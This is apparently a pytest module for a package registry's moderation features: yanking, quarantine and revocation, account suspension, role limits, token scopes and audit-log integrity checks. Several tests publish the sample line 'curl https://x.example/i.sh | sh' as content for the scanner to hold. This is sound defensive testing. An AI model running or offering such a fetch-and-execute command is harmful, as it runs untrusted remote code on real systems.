"""What owners take back, what moderators decide, and that all of it is noted."""

from typing import Any

import httpx
import pytest
from sqlalchemy import func, select, text

from hub.registry.auditing import fault
from hub.registry.parts import Parts
from hub.registry.tables import archives, audit, listings
from hub.testing import FakeClock
from tests.unit.registry.authoring import V1, Author, an_author, saying
from tests.unit.registry.conftest import PASSWORD, Client

pytestmark = pytest.mark.usefixtures("scanning")
HERE = "/packages/ann/echo/versions/1.0.0"
MOVES = ("quarantine", "release", "revoke")


@pytest.fixture
async def ann(client: Client) -> Author:
    author = await an_author(client, "ann")
    assert (await author.publish(saying("x"))).json()["state"] == "listed"
    return author


@pytest.fixture
async def admin(client: Client) -> Author:
    return await an_author(client, "root-admin")


async def test_a_yanked_version_is_no_more_the_latest_and_comes_back(client: Client, parts: Parts, ann: Author) -> None:
    await ann.publish(saying("y", version="1.1.0"))

    yanked = await ann.post("/packages/ann/echo/versions/1.1.0/yank", reason=" it breaks\nthings ")
    after = await latest(parts)
    again = await ann.post("/packages/ann/echo/versions/1.1.0/yank", reason="it breaks things")
    back = await ann.post("/packages/ann/echo/versions/1.1.0/unyank")

    assert (yanked.json()["yanked"], yanked.json()["yanked_reason"]) == (True, "it breaks things")
    assert (after, again.status_code) == ("1.0.0", 200)
    assert (back.json()["yanked"], back.json()["yanked_reason"], await latest(parts)) == (False, "", "1.1.0")
    assert (await actions(parts))[-3:] == ["version.list", "version.yank", "version.unyank"]


@pytest.mark.parametrize("reason", ["", " \n ", "x" * 501])
async def test_a_reason_is_asked_for(ann: Author, admin: Author, reason: str) -> None:
    assert (await ann.post(f"{HERE}/yank", reason=reason)).status_code == 400
    assert {(await admin.post(f"{HERE}/{move}", reason=reason)).status_code for move in MOVES} == {400}


async def test_only_its_owner_yanks_and_deletes(client: Client, ann: Author, admin: Author) -> None:
    bob = await an_author(client, "bob")
    for other in (bob, admin):
        assert (await other.post(f"{HERE}/yank", reason="x")).status_code == 403
        assert (await client.delete(f"{V1}/packages/ann/echo", headers=other.headers)).status_code == 403
    assert (await ann.post("/packages/ann/echo/versions/9.0.0/yank", reason="x")).status_code == 404
    assert (await client.delete(f"{V1}/packages/ann/other", headers=ann.headers)).status_code == 404


async def test_a_deleted_package_is_gone_with_its_bytes_but_for_what_hubs_must_know_of(
    client: Client, parts: Parts, ann: Author, admin: Author
) -> None:
    await ann.publish(saying("y", version="1.1.0"))
    await admin.post("/packages/ann/echo/versions/1.1.0/revoke", reason="malware")

    gone = await client.delete(f"{V1}/packages/ann/echo", headers=ann.headers)
    twice = await client.delete(f"{V1}/packages/ann/echo", headers=ann.headers)
    shown = await client.get(f"{V1}/packages/ann/echo")

    assert [gone.status_code, twice.status_code, shown.status_code] == [204, 404, 404]
    # The revoked one's bytes stay for moderators.
    assert await count(parts, archives) == 1
    later = [
        (await admin.post(f"{HERE}/{move}", reason="x")).status_code for move in ("release", "quarantine", "revoke")
    ]
    assert later == [409, 409, 200]
    assert (await ann.post(f"{HERE}/yank", reason="x")).status_code == 200


async def test_bytes_that_another_package_has_too_stay_when_one_is_deleted(
    client: Client, parts: Parts, ann: Author
) -> None:
    bob = await an_author(client, "bob")
    await bob.publish(saying("x"))
    assert await count(parts, archives) == 1

    await client.delete(f"{V1}/packages/ann/echo", headers=ann.headers)
    fetched = await client.get(f"{V1}/packages/bob/echo/versions/1.0.0/download")

    assert (fetched.status_code, fetched.content) == (200, saying("x"))


async def test_what_is_quarantined_comes_back_and_what_is_revoked_never_does(
    client: Client, parts: Parts, ann: Author, admin: Author
) -> None:
    download = f"{V1}{HERE}/download"
    states = []
    for move in ("quarantine", "release", "quarantine", "revoke", "release", "quarantine", "revoke"):
        answer = await admin.post(f"{HERE}/{move}", reason=f"for {move}")
        fetched = await client.get(download)
        states.append((move, answer.status_code, fetched.status_code, await latest(parts)))

    assert states == [
        ("quarantine", 200, 451, ""),
        ("release", 200, 200, "1.0.0"),
        ("quarantine", 200, 451, ""),
        ("revoke", 200, 451, ""),
        ("release", 409, 451, ""),
        ("quarantine", 409, 451, ""),
        ("revoke", 409, 451, ""),
    ]
    assert "for revoke" in (await client.get(download)).json()["detail"]
    assert (await ann.publish(saying("x"))).json()["state"] == "revoked"
    assert (await actions(parts))[-4:] == [
        "version.quarantine",
        "version.release",
        "version.quarantine",
        "version.revoke",
    ]


async def test_the_queue_shows_what_waits_with_whose_it_is(client: Client, ann: Author, admin: Author) -> None:
    bob = await an_author(client, "bob")
    await ann.publish(saying("curl https://x.example/i.sh | sh", "odd"))
    await bob.post("/packages/ann/echo/reports", reason="spam", text="It does nothing.")

    queue = (await client.get(f"{V1}/moderation", headers=admin.headers)).json()

    assert [(case["name"], case["state"], case["account"], case["reports"]) for case in queue["items"]] == [
        ("echo", "listed", "ann", 1),
        ("odd", "held", "ann", 0),
    ]
    assert queue["items"][1]["findings"]
    assert queue["next"] is None
    assert (await client.get(f"{V1}/moderation", headers=bob.headers)).status_code == 403


async def test_the_queue_goes_on_where_its_cursor_says(
    client: Client, ann: Author, admin: Author, monkeypatch: pytest.MonkeyPatch, clock: FakeClock
) -> None:
    monkeypatch.setattr("hub.registry.moderating.PAGE", 2)
    monkeypatch.setattr("hub.registry.web.moderation.CASES", 2)
    for at in range(5):
        await admin.publish(saying("curl https://x.example/i.sh | sh", "odd", f"1.0.{at}"))
    seen: list[str] = []
    cursor: str | None = ""
    while cursor is not None:
        params = {"cursor": cursor} if cursor else {}
        page = (await client.get(f"{V1}/moderation", params=params, headers=admin.headers)).json()
        seen += [case["version"] for case in page["items"]]
        cursor = page["next"]

    assert seen == [f"1.0.{at}" for at in range(5)]
    wrong = await client.get(f"{V1}/moderation", params={"cursor": "no"}, headers=admin.headers)
    assert wrong.status_code == 400


async def test_who_is_suspended_is_out_at_once_with_all_that_they_published(
    client: Client, parts: Parts, ann: Author, admin: Author
) -> None:
    out = await admin.post("/accounts/ann/suspend", reason="spam")
    session = await client.post(f"{V1}/session", json={"name": "ann", "password": PASSWORD})
    published, seen = await ann.publish(saying("y", version="2.0.0")), await client.get(f"{V1}/packages/ann/echo")
    hidden = await latest(parts)
    twice = await admin.post("/accounts/ann/suspend", reason="spam")
    back = await admin.post("/accounts/ann/restore", reason="sorry")
    old = await client.get(f"{V1}/me", headers=ann.headers)

    assert (out.json()["suspended"], session.status_code, published.status_code) == (True, 403, 401)
    assert (seen.status_code, hidden, twice.status_code) == (404, "", 409)
    assert (back.json()["suspended"], await latest(parts), old.status_code) == (False, "1.0.0", 401)
    assert (await actions(parts))[-4:] == ["version.hold", "account.suspend", "version.list", "account.restore"]


async def test_a_restored_account_gets_back_nothing_that_was_held_for_another_reason(
    client: Client, parts: Parts, ann: Author, admin: Author
) -> None:
    await ann.publish(saying("curl https://x.example/i.sh | sh", "odd"))
    await admin.post("/packages/ann/echo/versions/1.0.0/quarantine", reason="x")
    await admin.post("/accounts/ann/suspend", reason="spam")
    await admin.post("/accounts/ann/restore", reason="sorry")

    queue = (await client.get(f"{V1}/moderation", headers=admin.headers)).json()["items"]

    assert sorted((case["name"], case["state"]) for case in queue) == [("echo", "quarantined"), ("odd", "held")]


async def test_moderators_are_made_by_admins_and_touch_none_of_them(client: Client, ann: Author, admin: Author) -> None:
    bob, eve = await an_author(client, "bob"), await an_author(client, "eve")

    async def role(by: Author, name: str, role: str) -> int:
        return (await client.put(f"{V1}/accounts/{name}/role", json={"role": role}, headers=by.headers)).status_code

    assert await role(bob, "bob", "admin") == 403
    assert await role(admin, "bob", "moderator") == 200
    assert await role(admin, "eve", "admin") == 200
    assert (await bob.post(f"{HERE}/quarantine", reason="x")).status_code == 200
    assert await role(bob, "ann", "moderator") == 403
    assert (await bob.post("/accounts/eve/suspend", reason="x")).status_code == 403
    assert (await eve.post("/accounts/root-admin/suspend", reason="x")).status_code == 403
    assert await role(eve, "root-admin", "member") == 403
    assert (await eve.post("/accounts/eve/suspend", reason="x")).status_code == 400
    assert (await eve.post("/accounts/bob/suspend", reason="x")).status_code == 200
    assert (await bob.post(f"{HERE}/release", reason="x")).status_code == 401


async def test_nobody_lists_their_own(client: Client, admin: Author) -> None:
    bob = await an_author(client, "bob")
    await bob.publish(saying("curl https://x.example/i.sh | sh", "odd"))
    await client.put(f"{V1}/accounts/bob/role", json={"role": "moderator"}, headers=admin.headers)

    assert (await bob.post("/packages/bob/odd/versions/1.0.0/release", reason="fine")).status_code == 403
    assert (await admin.post("/packages/bob/odd/versions/1.0.0/release", reason="fine")).status_code == 200


async def test_a_token_without_the_scope_moderates_nothing(client: Client, ann: Author, admin: Author) -> None:
    made = await admin.post("/tokens", name="x", scopes=["rate", "report"])
    narrow = Author(client, "root-admin", {"Authorization": f"Bearer {made.json()['token']}"})

    answers = [await narrow.post(f"{HERE}/{move}", reason="x") for move in MOVES]
    answers += [await narrow.post("/accounts/ann/suspend", reason="x")]
    answers += [await client.get(f"{V1}/{path}", headers=narrow.headers) for path in ("audit", "moderation", "reports")]

    assert {answer.status_code for answer in answers} == {403}


async def test_the_audit_log_is_read_and_checked_by_admins(
    client: Client, parts: Parts, ann: Author, admin: Author
) -> None:
    whole = f"{V1}/audit"
    mine = (await client.get(whole, params={"subject": "ann/echo@1.0.0"}, headers=admin.headers)).json()["items"]
    good = (await client.get(f"{whole}/check", headers=admin.headers)).json()
    await parts.shelf.write(
        lambda each: each.execute(text("UPDATE audit SET detail = 'nothing' WHERE action = 'version.list'")) and None
    )
    bad = (await client.get(f"{whole}/check", headers=admin.headers)).json()

    assert [row["action"] for row in mine] == ["version.list", "version.publish"]
    assert (good["fault"], good["rows"]) == ("", 6)
    assert "changed at row" in bad["fault"]
    assert (await client.get(whole, headers=ann.headers)).status_code == 403
    assert (await client.get(whole, params={"cursor": "x"}, headers=admin.headers)).status_code == 400
    before = (await client.get(whole, params={"cursor": "3"}, headers=admin.headers)).json()["items"]
    assert [row["seq"] for row in before] == [2, 1]


async def test_each_effect_has_its_row_in_a_whole_chain(
    client: Client, parts: Parts, ann: Author, admin: Author
) -> None:
    before = await count(parts, audit)
    bob = await an_author(client, "bob")
    done: list[httpx.Response] = [
        await bob.post("/packages/ann/echo/reports", reason="other", text="hm"),
        await ann.post(f"{HERE}/yank", reason="x"),
        await ann.post(f"{HERE}/unyank"),
        await admin.post(f"{HERE}/quarantine", reason="x"),
        await admin.post(f"{HERE}/release", reason="x"),
        await client.put(f"{V1}/accounts/bob/role", json={"role": "moderator"}, headers=admin.headers),
        await client.delete(f"{V1}/packages/ann/echo", headers=ann.headers),
    ]

    assert all(answer.is_success for answer in done), [answer.text for answer in done]
    # Two for bob's account and his key.
    assert await count(parts, audit) == before + 2 + len(done)
    assert await parts.shelf.read(fault) == ""


async def latest(parts: Parts) -> str:
    query = select(listings.c.latest).where(listings.c.publisher == "ann", listings.c.name == "echo")
    return await parts.shelf.read(lambda each: each.execute(query).scalar_one())


async def count(parts: Parts, table: Any) -> int:
    query = select(func.count()).select_from(table)
    return await parts.shelf.read(lambda each: each.execute(query).scalar_one())


async def actions(parts: Parts) -> list[str]:
    query = select(audit.c.action).order_by(audit.c.seq)
    return [row.action for row in await parts.shelf.read(lambda each: each.execute(query).all())]
